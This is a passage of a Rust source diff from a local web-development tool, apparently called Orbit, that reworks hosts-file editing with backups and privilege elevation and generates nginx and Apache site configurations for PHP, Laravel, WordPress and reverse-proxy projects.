+        .and_then(|mut file| {
+            file.write_all(content.as_bytes())?;
+            if let Some(permissions) = permissions {
+                file.set_permissions(permissions)?;
+            }
+            file.sync_all()
+        })
+        .and_then(|_| fs::rename(&tmp, path));
+    if result.is_err() {
+        let _ = fs::remove_file(&tmp);
+    }
+    result
+}
+
+/// Back up `path`, write `content`, then run `validate`; on failure the
+/// original file is restored from its backup (or removed if it was new).
+fn write_with_rollback(
+    path: &PathBuf,
+    content: &str,
+    validate: impl FnOnce() -> Result<(), String>,
+) -> Result<(), String> {
+    let backup = backup_file(path)?;
+    fs::write(path, content)
+        .map_err(|e| format!("Failed to write config: {}", e))?;
+
+    if let Err(e) = validate() {
+        match &backup {
+            Some(bak) => { fs::copy(bak, path).ok(); }
+            None => { fs::remove_file(path).ok(); }
+        }
+        return Err(format!("{} (rolled back)", e));
     }
     Ok(())
 }
 
 fn write_sites_store(store: &SiteStore) -> Result<(), String> {
-    let store_path = get_config_dir().join("sites.json");
-    fs::create_dir_all(get_config_dir())
+    write_sites_store_in(&get_config_dir(), store)
+}
+
+fn write_sites_store_in(config_dir: &std::path::Path, store: &SiteStore) -> Result<(), String> {
+    let store_path = config_dir.join("sites.json");
+    fs::create_dir_all(config_dir)
         .map_err(|e| format!("Failed to create config dir: {}", e))?;
     let content = serde_json::to_string_pretty(store)
         .map_err(|e| format!("Failed to serialize sites: {}", e))?;
-    fs::write(&store_path, content)
+    write_atomic(&store_path, &content)
         .map_err(|e| format!("Failed to write sites.json: {}", e))
 }
 
-fn add_hosts_entry(domain: &str) -> Result<(), String> {
-    let hosts_path = get_hosts_path();
-    let content = fs::read_to_string(&hosts_path)
-        .map_err(|e| format!("Failed to read hosts file: {}", e))?;
+const HOSTS_IPV4: &str = "127.0.0.1";
+const HOSTS_IPV6: &str = "::1";
 
-    let entry = format!("127.0.0.1 {}", domain);
-    if content.contains(&entry) {
-        return Ok(());
-    }
-
-    let new_content = format!("{}\n{}\n", content.trim_end(), entry);
+/// Whether sites also get a `::1` hosts line. On unless config/hosts.json
+/// says `{ "ipv6": false }`.
+fn hosts_ipv6_enabled() -> bool {
+    fs::read_to_string(get_config_dir().join("hosts.json"))
+        .ok()
+        .and_then(|content| serde_json::from_str::<Value>(&content).ok())
+        .and_then(|config| config["ipv6"].as_bool())
+        .unwrap_or(true)
+}
 
-    // Try direct write first
-    match fs::write(&hosts_path, &new_content) {
-        Ok(_) => Ok(()),
-        Err(_) => {
-            // Fallback: elevated write
-            elevated_hosts_write(&new_content)
-        }
-    }
+/// Loopback addresses a domain is mapped to
+fn hosts_ips(ipv6: bool) -> Vec<&'static str> {
+    if ipv6 { vec![HOSTS_IPV4, HOSTS_IPV6] } else { vec![HOSTS_IPV4] }
 }
 
-fn remove_hosts_entry(domain: &str) -> Result<(), String> {
-    let hosts_path = get_hosts_path();
-    let content = fs::read_to_string(&hosts_path)
-        .map_err(|e| format!("Failed to read hosts file: {}", e))?;
+/// The address and hostnames of a hosts line; comments and blank lines
+/// have none
+fn hosts_line_fields(line: &str) -> Option<(&str, Vec<&str>)> {
+    let code = line.split('#').next().unwrap_or("");
+    let mut fields = code.split_whitespace();
+    let addr = fields.next()?;
+    let names: Vec<&str> = fields.collect();
+    (!names.is_empty()).then_some((addr, names))
+}
 
-    let entry = format!("127.0.0.1 {}", domain);
-    let new_content: String = content.lines()
-        .filter(|line| line.trim() != entry)
-        .collect::<Vec<_>>()
-        .join("\n");
+/// Whether a hosts line maps `domain`, as any of its hostnames
+fn hosts_line_maps(line: &str, domain: &str) -> bool {
+    hosts_line_fields(line).is_some_and(|(_, names)| names.contains(&domain))
+}
 
-    let final_content = format!("{}\n", new_content.trim_end());
+/// A hosts line with `domain` taken out of its hostnames, keeping the other
+/// names and any comment; `None` when `domain` was its only name
+fn hosts_line_without(line: &str, domain: &str) -> Option<String> {
+    let (addr, names) = hosts_line_fields(line)?;
+    let others: Vec<&str> = names.into_iter().filter(|name| *name != domain).collect();
+    if others.is_empty() {
+        return None;
+    }
+    let comment = line.find('#').map(|i| format!(" {}", &line[i..])).unwrap_or_default();
+    Some(format!("{} {}{}", addr, others.join(" "), comment))
+}
 
-    // Try direct write first
-    match fs::write(&hosts_path, &final_content) {
-        Ok(_) => Ok(()),
-        Err(_) => {
-            // Fallback: elevated write
-            elevated_hosts_write(&final_content)
+/// `content` without `domain`, whatever its address: lines of its own are
+/// dropped, lines shared with other names only lose the domain
+fn hosts_drop_domain(content: &str, domain: &str) -> String {
+    let kept: Vec<String> = content.lines()
+        .filter_map(|line| if hosts_line_maps(line, domain) { hosts_line_without(line, domain) } else { Some(line.to_string()) })
+        .collect();
+    format!("{}\n", kept.join("\n").trim_end())
+}
+
+/// `content` with `domain` mapped to each loopback address. A line already
+/// mapping the domain to that address is kept, a line of its own with another
+/// address of the same family is rewritten in place, and extra mappings are
+/// dropped instead of appending a duplicate. A line the domain shares with
+/// other names only loses the domain, so those names keep their address.
+fn hosts_set_entry(content: &str, domain: &str, ipv6: bool) -> String {
+    let mut lines: Vec<String> = content.lines().map(String::from).collect();
+    for ip in hosts_ips(ipv6) {
+        let is_v6 = ip.contains(':');
+        let mut found = lines.iter().any(|line| {
+            hosts_line_fields(line).is_some_and(|(addr, names)| addr == ip && names.contains(&domain))
+        });
+        let mut seen = false;
+        let mut kept = Vec::with_capacity(lines.len());
+        for line in lines {
+            let Some((addr, names)) = hosts_line_fields(&line) else {
+                kept.push(line);
+                continue;
+            };
+            if !names.contains(&domain) || addr.contains(':') != is_v6 || (addr == ip && !seen) {
+                seen |= addr == ip && names.contains(&domain);
+                kept.push(line);
+            } else if names.len() > 1 {
+                kept.extend(hosts_line_without(&line, domain));
+            } else if !found {
+                found = true;
+                let rest = line.trim_start()[addr.len()..].to_string();
+                kept.push(format!("{}{}", ip, rest));
+            }
+        }
+        lines = kept;
+        if !found {
+            lines.push(format!("{} {}", ip, domain));
         }
     }
+    format!("{}\n", lines.join("\n").trim_end())
 }
 
-/// Write hosts file content with elevated privileges
-fn elevated_hosts_write(content: &str) -> Result<(), String> {
-    let temp_dir = std::env::temp_dir();
-    let random_suffix: u64 = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .map(|d| d.as_nanos() as u64)
-        .unwrap_or(0);
-
-    // Write content to a temp file
-    let temp_hosts = temp_dir.join(format!("orbit_hosts_{}.tmp", random_suffix));
-    fs::write(&temp_hosts, content)
-        .map_err(|e| format!("Failed to write temp hosts: {e}"))?;
+/// Hosts lines `add_hosts_entry` would write (new or rewritten) for `names`,
+/// given the current hosts file content
+fn hosts_entries_to_add(content: &str, names: &[&str], ipv6: bool) -> Vec<String> {
+    let updated = names.iter().fold(content.to_string(), |acc, name| hosts_set_entry(&acc, name, ipv6));
+    updated.lines()
+        .filter(|line| !content.lines().any(|existing| existing == *line))
+        .map(String::from)
+        .collect()
+}
 
-    #[cfg(target_os = "windows")]
-    {
-        let hosts_path = get_hosts_path();
-        let script_path = temp_dir.join(format!("orbit_hosts_{}.ps1", random_suffix));
-        let script_content = format!(
-            "Copy-Item -Path '{}' -Destination '{}' -Force",
-            temp_hosts.display().to_string().replace("'", "''"),
-            hosts_path.display().to_string().replace("'", "''")
-        );
+/// Hosts lines `remove_hosts_entry` would drop for `names`
+fn hosts_entries_to_remove(content: &str, names: &[&str]) -> Vec<String> {
+    content.lines()
+        .filter(|line| names.iter().any(|name| hosts_line_maps(line, name)))
+        .map(|line| line.trim().to_string())
+        .collect()
+}
 
-        fs::write(&script_path, &script_content)
-            .map_err(|e| format!("Failed to create temp script: {e}"))?;
-
-        let output = std::process::Command::new("powershell")
-            .args([
-                "-NoProfile",
-                "-ExecutionPolicy", "Bypass",
-                "-WindowStyle", "Hidden",
-                "-Command",
-                &format!(
-                    "Start-Process powershell -Verb RunAs -WindowStyle Hidden -Wait -ArgumentList '-NoProfile', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', '{}'",
-                    script_path.display()
-                ),
-            ])
-            .output()
-            .map_err(|e| format!("Failed to execute elevated command: {e}"))?;
+/// Backups of the hosts file kept next to it
+const HOSTS_BACKUPS_KEPT: usize = 5;
 
-        let _ = fs::remove_file(&script_path);
-        let _ = fs::remove_file(&temp_hosts);
+/// Set once this process has backed up the hosts file
+static HOSTS_BACKED_UP: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
 
-        if output.status.success() {
-            Ok(())
-        } else {
-            Err("Failed to update hosts file (elevation denied or failed)".to_string())
-        }
-    }
+/// Where hosts file backups go. Under config/ rather than next to the hosts
+/// file, which only an administrator may write to (System32\drivers\etc on
+/// Windows), so backing up never needs elevation.
+fn hosts_backup_dir() -> PathBuf {
+    get_config_dir().join("hosts-backups")
+}
 
-    #[cfg(not(target_os = "windows"))]
-    {
-        let hosts_path = get_hosts_path();
-        let output = std::process::Command::new("pkexec")
-            .args(["cp", &temp_hosts.to_string_lossy(), &hosts_path.to_string_lossy()])
-            .output()
-            .map_err(|e| format!("Failed to execute pkexec: {e}"))?;
+/// Orbit's backups in `backup_dir` (`hosts.orbit-<timestamp>.bak`), oldest first
+fn hosts_backups(backup_dir: &std::path::Path) -> Vec<PathBuf> {
+    let mut backups: Vec<PathBuf> = fs::read_dir(backup_dir)
+        .map(|entries| entries.filter_map(|e| e.ok()).map(|e| e.path()).collect())
+        .unwrap_or_default();
+    backups.retain(|path| {
+        let file = path.file_name().unwrap_or_default().to_string_lossy();
+        file.starts_with("hosts.orbit-") && file.ends_with(".bak")
+    });
+    backups.sort();
+    backups
+}
 
-        let _ = fs::remove_file(&temp_hosts);
+/// Copy the hosts file to `hosts.orbit-<stamp>.bak` in `backup_dir` and drop
+/// all but the newest `keep` backups
+fn backup_hosts_file(hosts_path: &std::path::Path, backup_dir: &std::path::Path, stamp: &str, keep: usize) -> Result<PathBuf, String> {
+    fs::create_dir_all(backup_dir)
+        .map_err(|e| format!("Failed to create {}: {}", backup_dir.display(), e))?;
+    let backup = backup_dir.join(format!("hosts.orbit-{}.bak", stamp));
+    fs::copy(hosts_path, &backup).map_err(|e| format!("Failed to back up hosts file: {}", e))?;
 
-        if output.status.success() {
-            Ok(())
-        } else {
-            Err("Failed to update hosts file (elevation denied or failed)".to_string())
+    let backups = hosts_backups(backup_dir);
+    for old in &backups[..backups.len().saturating_sub(keep)] {
+        let _ = fs::remove_file(old);
+    }
+    Ok(backup)
+}
+
+fn hosts_backup_stamp() -> String {
+    chrono::Local::now().format("%Y%m%d-%H%M%S").to_string()
+}
+
+/// Back up the hosts file before the first change this session. A failed
+/// backup is logged but doesn't block the change.
+fn backup_hosts_once(hosts_path: &std::path::Path, backup_dir: &std::path::Path) {
+    if HOSTS_BACKED_UP.swap(true, std::sync::atomic::Ordering::SeqCst) {
+        return;
+    }
+    match backup_hosts_file(hosts_path, backup_dir, &hosts_backup_stamp(), HOSTS_BACKUPS_KEPT) {
+        Ok(backup) => eprintln!("[orbit-mcp] Backed up hosts file to {}", backup.display()),
+        Err(e) => {
+            HOSTS_BACKED_UP.store(false, std::sync::atomic::Ordering::SeqCst);
+            eprintln!("[orbit-mcp] Hosts file backup failed: {}", e);
         }
     }
 }
 
+fn add_hosts_entry(domain: &str) -> Result<(), String> {
+    add_hosts_entry_at(&get_hosts_path(), &hosts_backup_dir(), domain, hosts_ipv6_enabled())
+}
 
-fn generate_site_nginx_config(
-    domain: &str,
-    doc_root: &str,
-    php_version: Option<&str>,
-    ssl: bool,
-    bin_dir: &PathBuf,
-) -> String {
-    let listen = if ssl {
-        format!("    listen 443 ssl;\n    ssl_certificate {ssl_dir}/{domain}.pem;\n    ssl_certificate_key {ssl_dir}/{domain}-key.pem;",
-            ssl_dir = bin_dir.join("nginx").join("ssl").display(),
-            domain = domain)
+fn add_hosts_entry_at(hosts_path: &std::path::Path, backup_dir: &std::path::Path, domain: &str, ipv6: bool) -> Result<(), String> {
+    let content = fs::read_to_string(hosts_path)
+        .map_err(|e| format!("Failed to read hosts file: {}", e))?;
+
+    let new_content = hosts_set_entry(&content, domain, ipv6);
+    if new_content.trim_end() == content.trim_end() {
+        return Ok(());
+    }
+    backup_hosts_once(hosts_path, backup_dir);
+
+    write_hosts_with_fallback(
+        || fs::write(hosts_path, &new_content),
+        || {
+            #[cfg(unix)]
+            {
+                let lines: Vec<String> = hosts_ips(ipv6).iter().map(|ip| format!("{} {}", ip, domain)).collect();
+                let manual = format!(
+                    "{} && printf '{}\\n' | sudo tee -a {}",
+                    sudo_hosts_remove_command(hosts_path, domain), lines.join("\\n"), hosts_path.display()
+                );
+                sudo_hosts_write(hosts_path, &new_content, &manual)
+            }
+            #[cfg(target_os = "windows")]
+            { elevated_hosts_write(&new_content) }
+        },
+    )
+}
+
+fn remove_hosts_entry(domain: &str) -> Result<(), String> {
+    remove_hosts_entry_at(&get_hosts_path(), &hosts_backup_dir(), domain)
+}
+
+fn remove_hosts_entry_at(hosts_path: &std::path::Path, backup_dir: &std::path::Path, domain: &str) -> Result<(), String> {
+    let content = fs::read_to_string(hosts_path)
+        .map_err(|e| format!("Failed to read hosts file: {}", e))?;
+
+    let final_content = hosts_drop_domain(&content, domain);
+    if final_content.trim_end() == content.trim_end() {
+        return Ok(());
+    }
+    backup_hosts_once(hosts_path, backup_dir);
+
+    write_hosts_with_fallback(
+        || fs::write(hosts_path, &final_content),
+        || {
+            #[cfg(unix)]
+            { sudo_hosts_write(hosts_path, &final_content, &sudo_hosts_remove_command(hosts_path, domain)) }
+            #[cfg(target_os = "windows")]
+            { elevated_hosts_write(&final_content) }
+        },
+    )
+}
+
+/// Write the hosts file directly and only elevate when that fails, so an
+/// already-writable hosts file never triggers a prompt. Any failure elevates:
+/// on Windows a hosts file held by antivirus or marked read-only doesn't
+/// report PermissionDenied.
+fn write_hosts_with_fallback(
+    write: impl FnOnce() -> std::io::Result<()>,
+    elevate: impl FnOnce() -> Result<(), String>,
+) -> Result<(), String> {
+    match write() {
+        Ok(_) => Ok(()),
+        Err(_) => elevate(),
+    }
+}
+
+/// Run a hosts edit as root. On Linux pkexec comes first: its polkit agent
+/// asks for the password in a dialog, which works without a terminal. Then
+/// `sudo -n`, which orbit-mcp can only use with cached or passwordless sudo
+/// since it has no terminal to ask on. `manual` is the command the user can
+/// run themselves otherwise.
+#[cfg(unix)]
+fn sudo_hosts_command(args: &[&str], input: Option<Vec<u8>>, manual: &str) -> Result<(), String> {
+    #[cfg(target_os = "linux")]
+    {
+        let pkexec = run_with_timeout_input(Command::new("pkexec").args(args), input.clone(), operation_timeout("default"))
+            .map(CommandResult::from);
+        match pkexec {
+            Ok(output) if output.success() => return Ok(()),
+            Ok(output) => eprintln!("[orbit-mcp] pkexec {} failed ({}), trying sudo", args[0], output.error_detail()),
+            Err(e) => eprintln!("[orbit-mcp] pkexec unavailable ({}), trying sudo", e),
+        }
+    }
+
+    let instructions = format!(
+        "Permission denied writing {}. Run this in a terminal, then retry:\n  {}",
+        get_hosts_path().display(), manual
+    );
+    let probe = Command::new("sudo").args(["-n", "true"]).output();
+    match probe {
+        Err(_) => return Err(format!("sudo is not available. {}", instructions)),
+        Ok(o) if !o.status.success() => return Err(format!("sudo needs a password. {}", instructions)),
+        Ok(_) => {}
+    }
+
+    let output = run_with_timeout_input(Command::new("sudo").arg("-n").args(args), input, operation_timeout("default"))
+        .map(CommandResult::from)
+        .map_err(|e| format!("Failed to run sudo: {}", e))?;
+    if output.success() {
+        Ok(())
+    } else {
+        Err(format!("sudo {} failed: {}. {}", args[0], output.error_detail(), instructions))
+    }
+}
+
+/// Replace the whole hosts file with `content`
+#[cfg(unix)]
+fn sudo_hosts_write(hosts_path: &std::path::Path, content: &str, manual: &str) -> Result<(), String> {
+    let path = hosts_path.to_string_lossy();
+    sudo_hosts_command(&["tee", &path], Some(content.as_bytes().to_vec()), manual)
+}
+
+/// sed script deleting every line whose hostname is `domain`, whatever its address
+#[cfg(unix)]
+fn sudo_hosts_remove_script(domain: &str) -> String {
+    format!("/^[[:space:]]*[^#[:space:]]+[[:space:]]+{}([[:space:]]|#|$)/d", sed_escape(domain))
+}
+
+#[cfg(unix)]
+fn sudo_hosts_remove_command(hosts_path: &std::path::Path, domain: &str) -> String {
+    format!("sudo sed -i.bak -E '{}' {}", sudo_hosts_remove_script(domain), hosts_path.display())
+}
+
+/// Escape a literal for a regular expression inside a `/.../` sed address
+#[cfg(unix)]
+fn sed_escape(literal: &str) -> String {
+    let mut escaped = String::new();
+    for c in literal.chars() {
+        if matches!(c, '.' | '[' | ']' | '*' | '^' | '$' | '\\' | '/') {
+            escaped.push('\\');
+        }
+        escaped.push(c);
+    }
+    escaped
+}
+
+/// Write hosts file content with elevated privileges (UAC prompt)
+#[cfg(target_os = "windows")]
+fn elevated_hosts_write(content: &str) -> Result<(), String> {
+    let temp_dir = std::env::temp_dir();
+    let random_suffix: u64 = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos() as u64)
+        .unwrap_or(0);
+
+    // Write content to a temp file
+    let temp_hosts = temp_dir.join(format!("orbit_hosts_{}.tmp", random_suffix));
+    fs::write(&temp_hosts, content)
+        .map_err(|e| format!("Failed to write temp hosts: {e}"))?;
+
+    let hosts_path = get_hosts_path();
+    let script_path = temp_dir.join(format!("orbit_hosts_{}.ps1", random_suffix));
+    let script_content = format!(
+        "Copy-Item -Path '{}' -Destination '{}' -Force",
+        temp_hosts.display().to_string().replace("'", "''"),
+        hosts_path.display().to_string().replace("'", "''")
+    );
+
+    fs::write(&script_path, &script_content)
+        .map_err(|e| format!("Failed to create temp script: {e}"))?;
+
+    let output = std::process::Command::new("powershell")
+        .args([
+            "-NoProfile",
+            "-ExecutionPolicy", "Bypass",
+            "-WindowStyle", "Hidden",
+            "-Command",
+            &format!(
+                "Start-Process powershell -Verb RunAs -WindowStyle Hidden -Wait -ArgumentList '-NoProfile', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', '{}'",
+                script_path.display()
+            ),
+        ])
+        .output()
+        .map_err(|e| format!("Failed to execute elevated command: {e}"))?;
+
+    let _ = fs::remove_file(&script_path);
+    let _ = fs::remove_file(&temp_hosts);
+
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err("Failed to update hosts file (elevation denied or failed)".to_string())
+    }
+}
+
+
+fn installed_nginx_version(bin_dir: &std::path::Path) -> String {
+    let nginx_exe = bin_dir.join("nginx").join(exe_name("nginx"));
+    parse_version_output(&nginx_exe, &["-v"], "nginx/", 6)
+}
+
+/// nginx 1.25.1 deprecated `listen ... http2` in favour of a standalone `http2 on;`.
+/// An unknown version gets the old form, which newer nginx still accepts.
+fn nginx_has_http2_directive(version: &str) -> bool {
+    let mut parts = version.split('.').map(|p| p.parse::<u32>().ok());
+    match (parts.next().flatten(), parts.next().flatten(), parts.next().flatten()) {
+        (Some(major), Some(minor), patch) => (major, minor, patch.unwrap_or(0)) >= (1, 25, 1),
+        _ => false,
+    }
+}
+
+/// MIME types compressed by per-site gzip/brotli (text/html always is)
+const COMPRESSION_TYPES: &str = "text/plain text/css application/json application/javascript text/xml application/xml image/svg+xml";
+
+/// Whether the installed nginx can serve brotli: built in (`nginx -V` lists
+/// ngx_brotli) or loaded as a dynamic module from nginx.conf.
+fn nginx_has_brotli(bin_dir: &std::path::Path) -> bool {
+    let nginx_dir = bin_dir.join("nginx");
+    let built_in = run_command(hidden_command(nginx_dir.join(exe_name("nginx"))).arg("-V"), "version")
+        .is_ok_and(|out| out.combined().contains("brotli"));
+    built_in || fs::read_to_string(nginx_dir.join("conf").join("nginx.conf")).is_ok_and(|conf| {
+        conf.lines().any(|line| {
+            let line = line.trim();
+            line.starts_with("load_module") && line.contains("brotli_filter")
+        })
+    })
+}
+
+/// Compression lines appended after a server block's listen directives.
+fn compression_directives(gzip: bool, brotli: bool) -> String {
+    let mut lines = String::new();
+    if gzip {
+        lines.push_str(&format!("\n    gzip on;\n    gzip_types {};", COMPRESSION_TYPES));
+    }
+    if brotli {
+        lines.push_str(&format!("\n    brotli on;\n    brotli_types {};", COMPRESSION_TYPES));
+    }
+    lines
+}
+
+/// listen, HTTP/2 and TLS lines for an SSL server block.
+fn ssl_listen_directives(ssl_dir: &std::path::Path, domain: &str, http2_directive: bool) -> String {
+    let listen = if http2_directive {
+        "    listen 443 ssl;\n    http2 on;"
+    } else {
+        "    listen 443 ssl http2;"
+    };
+    format!("{listen}\n    ssl_certificate {ssl_dir}/{domain}.pem;\n    ssl_certificate_key {ssl_dir}/{domain}-key.pem;\n    ssl_protocols TLSv1.2 TLSv1.3;",
+        ssl_dir = ssl_dir.display())
+}
+
+/// Dev server port nginx proxies to for templates that run their own app
+/// server (Node, Python) instead of PHP.
+fn proxy_dev_port(template: Option<&str>) -> Option<u16> {
+    match template? {
+        "reverse-proxy" | "nextjs" | "nuxt" | "remix" => Some(3000),
+        "astro" => Some(4321),
+        "vue" | "sveltekit" => Some(5173),
+        "django" => Some(8000),
+        _ => None,
+    }
+}
+
+/// Port a new site proxies to: `proxy_port` if given, else the template's
+/// default. A proxy port without a template means a plain reverse proxy.
+fn site_dev_port(template: Option<&str>, proxy_port: Option<u16>) -> Result<Option<u16>, String> {
+    match (proxy_port, template) {
+        (Some(0), _) => Err("proxy_port must be between 1 and 65535".to_string()),
+        (Some(port), None) => Ok(Some(port)),
+        (Some(port), Some(t)) if proxy_dev_port(Some(t)).is_some() => Ok(Some(port)),
+        (Some(_), Some(t)) => Err(format!("proxy_port only applies to reverse-proxy templates, not '{}'", t)),
+        (None, _) => Ok(proxy_dev_port(template)),
+    }
+}
+
+/// Directory the web server serves: Laravel apps are served from `public/`
+/// unless the site path already points there.
+fn site_doc_root(site: &SiteMetadata) -> String {
+    let path = site.path.trim_end_matches(['/', '\\']);
+    if site.template.as_deref() == Some("laravel") && !std::path::Path::new(path).ends_with("public") {
+        format!("{}/public", path)
+    } else {
+        site.path.clone()
+    }
+}
+
+fn generate_site_nginx_config(site: &SiteMetadata, bin_dir: &std::path::Path) -> String {
+    let domain = site.domain.as_str();
+    let mut listen = if site.ssl_enabled {
+        let http2_directive = nginx_has_http2_directive(&installed_nginx_version(bin_dir));
+        ssl_listen_directives(&bin_dir.join("nginx").join("ssl"), domain, http2_directive)
     } else {
         "    listen 80;".to_string()
     };
+    if site.ssl_enabled && site.hsts {
+        listen.push_str("\n    add_header Strict-Transport-Security \"max-age=31536000\" always;");
+    }
+    let has_brotli = site.brotli && nginx_has_brotli(bin_dir);
+    if site.brotli && !has_brotli {
+        eprintln!("[orbit-mcp] nginx has no brotli module; leaving brotli out of {}", domain);
+    }
+    listen.push_str(&compression_directives(site.gzip, has_brotli));
+
+    let server_names = std::iter::once(domain)
+        .chain(site.aliases.iter().map(String::as_str))
+        .collect::<Vec<_>>()
+        .join(" ");
+
+    // With SSL, plain HTTP gets its own block that only redirects to HTTPS
+    let redirect_block = if site.ssl_enabled {
+        format!(r#"server {{
+    listen 80;
+    server_name {server_names};
+    return 301 https://$host$request_uri;
+}}
+
+"#)
+    } else {
+        String::new()
+    };
+
+    // Node/Python dev servers: forward everything, including WebSocket upgrades for HMR
+    if let Some(dev_port) = site.dev_port {
+        return format!(r#"{redirect_block}server {{
+{listen}
+    server_name {server_names};
+
+    location / {{
+        proxy_pass http://127.0.0.1:{dev_port};
+        proxy_set_header Host $host;
+        proxy_http_version 1.1;
+        proxy_set_header Upgrade $http_upgrade;
+        proxy_set_header Connection "upgrade";
+    }}
+}}
+"#);
+    }
 
-    let php_block = if let Some(ver) = php_version {
-        // PHP port = 9000 + minor version (e.g. 8.4 → 9004, 8.3 → 9003)
-        let parts: Vec<&str> = ver.split('.').collect();
-        let minor: u32 = if parts.len() >= 2 { parts[1].parse().unwrap_or(4) } else { 4 };
-        let php_port = 9000 + minor;
-        format!(r#"
+    let php_version = site.php_version.as_deref();
+    // Same port get_service_port gives the php-<version> service
+    let fastcgi_port = site.php_port
+        .unwrap_or_else(|| php_version.and_then(php_port).unwrap_or(DEFAULT_PHP_PORT));
+    let fastcgi_block = format!(r#"
     location ~ \.php$ {{
-        fastcgi_pass 127.0.0.1:{php_port};
+        fastcgi_pass 127.0.0.1:{fastcgi_port};
         fastcgi_index index.php;
         fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
         include fastcgi_params;
-    }}"#)
-    } else {
-        String::new()
-    };
+    }}"#);
+    let doc_root = site_doc_root(site);
+
+    // Laravel: everything goes through public/index.php; other .php files are
+    // never executed or served as source
+    if site.template.as_deref() == Some("laravel") {
+        return format!(r#"{redirect_block}server {{
+{listen}
+    server_name {server_names};
+    root {doc_root};
+    index index.php;
+
+    location / {{
+        try_files $uri $uri/ /index.php?$query_string;
+    }}
+
+    location = /favicon.ico {{ access_log off; log_not_found off; }}
+    location = /robots.txt  {{ access_log off; log_not_found off; }}
+
+    error_page 404 /index.php;
+
+    location = /index.php {{
+        fastcgi_pass 127.0.0.1:{fastcgi_port};
+        fastcgi_param SCRIPT_FILENAME $realpath_root$fastcgi_script_name;
+        include fastcgi_params;
+        fastcgi_hide_header X-Powered-By;
+    }}
+
+    location ~ \.php$ {{
+        return 404;
+    }}
+
+    location ~ /\.(?!well-known).* {{
+        deny all;
+    }}
+}}
+"#);
+    }
+
+    // WordPress always runs on PHP. Regex locations match in order, so the
+    // uploads rule has to come before the PHP handler.
+    if site.template.as_deref() == Some("wordpress") {
+        return format!(r#"{redirect_block}server {{
+{listen}
+    server_name {server_names};
+    root {doc_root};
+    index index.php index.html index.htm;
+
+    # /wp-admin without the trailing slash
+    rewrite ^/wp-admin$ /wp-admin/ permanent;
+
+    # Permalinks
+    location / {{
+        try_files $uri $uri/ /index.php?$args;
+    }}
+
+    location = /xmlrpc.php {{
+        deny all;
+    }}
+
+    location = /wp-config.php {{
+        deny all;
+    }}
+
+    location ~* /(?:uploads|files)/.*\.php$ {{
+        deny all;
+    }}
+{fastcgi_block}
+
+    # expires sets Cache-Control itself; an add_header here would drop the server's HSTS header
+    location ~* \.(?:css|js|jpe?g|png|gif|webp|avif|ico|svg|woff2?|ttf|eot)$ {{
+        expires 30d;
+        access_log off;
+        try_files $uri =404;
+    }}
+
+    location ~ /\.ht {{
+        deny all;
+    }}
+}}
+"#);
+    }
+
+    let php_block = if php_version.is_some() { fastcgi_block } else { String::new() };
 
     let index = if php_version.is_some() {
         "index.php index.html index.htm"
@@ -901,9 +2597,9 @@ fn generate_site_nginx_config(
         "index.html index.htm"
     };
 
-    format!(r#"server {{
+    format!(r#"{redirect_block}server {{
 {listen}
-    server_name {domain};
+    server_name {server_names};
     root {doc_root};
     index {index};
 
@@ -919,6 +2615,111 @@ fn generate_site_nginx_config(
 "#)
 }
 
+/// Apache counterpart of `generate_site_nginx_config`, mirroring the app's
+/// vhost templates (PHP via proxy_fcgi, reverse proxy when a dev port is set).
+fn generate_site_apache_config(site: &SiteMetadata, bin_dir: &std::path::Path) -> String {
+    let domain = &site.domain;
+    let port = if site.ssl_enabled { 443 } else { site.port };
+
+    let ssl_block = if site.ssl_enabled {
+        let ssl_dir = bin_dir.join("nginx").join("ssl");
+        let cert = site.ssl_cert_path.clone()
+            .unwrap_or_else(|| ssl_dir.join(format!("{}.pem", domain)).to_string_lossy().to_string());
+        let key = site.ssl_key_path.clone()
+            .unwrap_or_else(|| ssl_dir.join(format!("{}-key.pem", domain)).to_string_lossy().to_string());
+        format!("    SSLEngine on\n    SSLCertificateFile \"{}\"\n    SSLCertificateKeyFile \"{}\"\n", cert, key)
+    } else {
+        String::new()
+    };
+
+    let body = if let Some(dev_port) = site.dev_port {
+        format!(r#"    ProxyPreserveHost On
+    ProxyPass / http://127.0.0.1:{dev_port}/
+    ProxyPassReverse / http://127.0.0.1:{dev_port}/
+
+    # WebSocket support
+    RewriteEngine On
+    RewriteCond %{{HTTP:Upgrade}} websocket [NC]
+    RewriteCond %{{HTTP:Connection}} upgrade [NC]
+    RewriteRule /(.*) ws://127.0.0.1:{dev_port}/$1 [P,L]
+"#)
+    } else {
+        let doc_root = site_doc_root(site);
+        let php_block = match &site.php_version {
+            Some(ver) => {
+                // Same port convention as the nginx config
+                let php_port = site.php_port.unwrap_or_else(|| php_port(ver).unwrap_or(DEFAULT_PHP_PORT));
+                format!(r#"
+    # PHP-FPM via proxy
+    <FilesMatch \.php$>
+        SetHandler "proxy:fcgi://127.0.0.1:{php_port}"
+    </FilesMatch>
+"#)
+            }
+            None => String::new(),
+        };
+        format!(r#"    DocumentRoot "{doc_root}"
+
+    <Directory "{doc_root}">
+        Options Indexes FollowSymLinks
+        AllowOverride All
+        Require all granted
+    </Directory>
+{php_block}"#)
+    };
+
+    let server_alias = if site.aliases.is_empty() {
+        String::new()
+    } else {
+        format!("    ServerAlias {}\n", site.aliases.join(" "))
+    };
+
+    format!(r#"<VirtualHost *:{port}>
+    ServerName {domain}
+{server_alias}{ssl_block}
+{body}
+    # Logs
+    ErrorLog "logs/{domain}-error.log"
+    CustomLog "logs/{domain}-access.log" combined
+</VirtualHost>
+"#)
+}
+
+/// PHP versions installed under `bin/php/<version>`, sorted.
+fn installed_php_versions(bin_dir: &std::path::Path) -> Vec<String> {
+    let mut versions: Vec<String> = fs::read_dir(bin_dir.join("php"))
+        .map(|entries| {
+            entries
+                .flatten()
+                .filter(|e| e.file_type().map(|ft| ft.is_dir()).unwrap_or(false))
+                .map(|e| e.file_name().to_string_lossy().to_string())
+                .filter(|name| name.starts_with(|c: char| c.is_ascii_digit()))
+                .collect()
+        })
+        .unwrap_or_default();
+    versions.sort();
+    versions
+}
+
+/// Point every `fastcgi_pass 127.0.0.1:<port>;` line at `port`, leaving the rest
+/// of the config untouched. Returns `None` if the config has no such line.
